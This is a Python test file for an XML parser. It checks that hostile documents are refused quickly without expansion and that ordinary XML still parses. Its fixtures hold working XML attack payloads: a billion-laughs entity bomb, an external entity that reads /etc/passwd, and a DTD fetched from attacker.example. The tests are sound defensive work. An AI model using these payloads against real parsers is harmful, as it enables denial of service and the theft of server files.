"""XML as an attacker writes it: entity expansion, external entities, a DTD fetched
from the network. `parsers.lines.xml_hands` refuses each at once, reading nothing else."""

from __future__ import annotations

import pytest

from parsers.lines.xml_hands import parse_xml
from parsers.model.errors import ErrorKind, HandParseError
from tests.hostile.conftest import cpu_seconds

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE session [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<session><game>&lol9;</game></session>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE session [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<session><nickname>&secret;</nickname></session>"""

REMOTE_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE session SYSTEM "http://attacker.example/evil.dtd">
<session><nickname>Hero</nickname></session>"""


@pytest.mark.parametrize(
    "document", [BILLION_LAUGHS, EXTERNAL_ENTITY, REMOTE_DTD], ids=["laughs", "entity", "dtd"]
)
def test_hostile_xml_is_refused_at_once(document: bytes) -> None:
    started = cpu_seconds()
    with pytest.raises(HandParseError) as refused:
        parse_xml("session.xml", document)
    assert cpu_seconds() - started < 1  # refused, not expanded: a billion laughs takes minutes
    assert refused.value.kind is ErrorKind.STRUCTURE
    assert str(refused.value).startswith("session.xml:1:1: XML refused")
    assert "root:" not in str(refused.value)  # /etc/passwd was never read


def test_plain_xml_reads_and_broken_xml_says_where() -> None:
    root = parse_xml("session.xml", b"<session><game gamecode='1'>razz</game></session>").root
    assert root.find("game").text == "razz"  # type: ignore[union-attr]
    with pytest.raises(HandParseError) as broken:
        parse_xml("session.xml", b"<session>\n<game>razz</session>")
    assert broken.value.kind is ErrorKind.SYNTAX
    assert broken.value.line == 2
